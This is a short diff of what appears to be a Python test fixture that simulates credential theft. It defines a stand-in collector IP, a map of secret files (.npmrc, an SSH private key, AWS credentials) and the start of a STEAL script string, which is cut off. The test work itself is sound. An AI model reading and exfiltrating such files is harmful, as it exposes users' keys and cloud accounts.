@@ -24,7 +24,7 @@ from tap import require, require_equal
 COLLECTOR = "203.0.113.66"
 NPM_TIMEOUT = 120
 
-SECRETS = {".npmrc": "package-registries", ".ssh/id_ed25519": "ssh-private-keys", ".aws/credentials": "cloud-aws"}
+SECRETS = {".npmrc": "npm-registries", ".ssh/id_ed25519": "ssh-private-keys", ".aws/credentials": "cloud-aws"}
 
 # Five attempts, as such scripts make when they get no answer.
 STEAL = """
